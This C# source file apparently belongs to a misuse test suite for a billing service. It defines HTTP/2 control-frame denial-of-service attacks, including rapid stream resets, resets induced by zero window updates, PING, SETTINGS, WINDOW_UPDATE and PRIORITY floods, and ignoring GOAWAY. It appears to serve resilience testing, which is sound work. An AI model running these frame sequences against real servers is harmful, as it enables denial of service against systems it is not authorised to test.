using Billing.Misuse.Frames;
using static Billing.Misuse.Attacks.Parts;
using static Billing.Misuse.Attacks.Steps;

namespace Billing.Misuse.Attacks;

/// <summary>Attacks with the frames that control a connection.</summary>
internal static class ControlAttacks
{
    private const int Cancel = 8;
    private static readonly Connections.Layout[] Few = [new(1, 1), new(20, 1), new(100, 1)];

    // As many frames in one write, so that a system call does not cost more than the attack.
    private const int Together = 100;

    /// <summary>All of them.</summary>
    public static IReadOnlyList<Attack> All { get; } =
    [
        new("resets-rapid", Phase.Control, "open streams and reset each at once")
        {
            Layouts = Few,
            Http2 = Sequence(Begin, Repeat(New(Send(connection =>
            [
                .. Http2Frames.Frame(
                    FrameKind.Headers, Http2Frames.EndHeaders, connection.StreamId,
                    connection.Requests.Fields(connection.Requests.Payment())),
                .. Http2Frames.Reset(connection.StreamId, Cancel),
            ])))),
        },
        new("resets-by-proxy", Phase.Control, "make the proxy reset each stream, by a window of 0 more bytes")
        {
            Layouts = Few,
            Http2 = Sequence(Begin, Repeat(New(Send(connection =>
            [
                .. Http2Frames.Frame(
                    FrameKind.Headers, Http2Frames.EndHeaders, connection.StreamId,
                    connection.Requests.Fields(connection.Requests.Payment())),
                .. Http2Frames.WindowUpdate(connection.StreamId, 0),
            ])))),
        },
        Flood("pings", "PING, as many as are taken", Http2Frames.Frame(FrameKind.Ping, 0, 0, new byte[8])),
        Flood("settings", "SETTINGS, as many as are taken", Http2Frames.Settings((Http2Frames.InitialWindow, 65_535u))),
        Flood("windows", "WINDOW_UPDATE of a byte, as many as are taken", Http2Frames.WindowUpdate(0, 1)),
        Flood("priorities", "PRIORITY, as many as are taken", Http2Frames.Frame(FrameKind.Priority, 0, 3, new byte[5])),
        Flood("unknown-frames", "frames of no known kind", Http2Frames.Frame((FrameKind)0xbe, 0, 0, new byte[100])),
        new("pings-unread", Phase.Control, "PING, as many as are taken, whose answers are not read")
        {
            ShowsToken = false,
            ReceivesLittle = true,
            Layouts = Few,
            Http2 = Sequence(SendBeginning(0), Repeat(Send(_ =>
                Many(Http2Frames.Frame(FrameKind.Ping, 0, 0, new byte[8]))))),
        },
        new("settings-unread", Phase.Control, "SETTINGS, as many as are taken, whose acknowledgements are not read")
        {
            ShowsToken = false,
            ReceivesLittle = true,
            Layouts = Few,
            Http2 = Sequence(SendBeginning(0), Repeat(Send(_ => Many(Http2Frames.Settings())))),
        },
        new("goodbye-ignored", Phase.Control, "say goodbye, and go on")
        {
            Layouts = Few,
            Http2 = Sequence(
                Begin, Send(_ => Http2Frames.Frame(FrameKind.GoAway, 0, 0, new byte[8])),
                Repeat(New(Ask(requests => requests.Page())), 100)),
        },
    ];

    private static Attack Flood(string name, string what, byte[] frame) => new(name, Phase.Control, what)
    {
        ShowsToken = false,
        Layouts = Few,
        Http2 = Sequence(Begin, Repeat(Send(_ => Many(frame)))),
    };

    private static byte[] Many(byte[] frame) => [.. Enumerable.Repeat(frame, Together).SelectMany(bytes => bytes)];
}
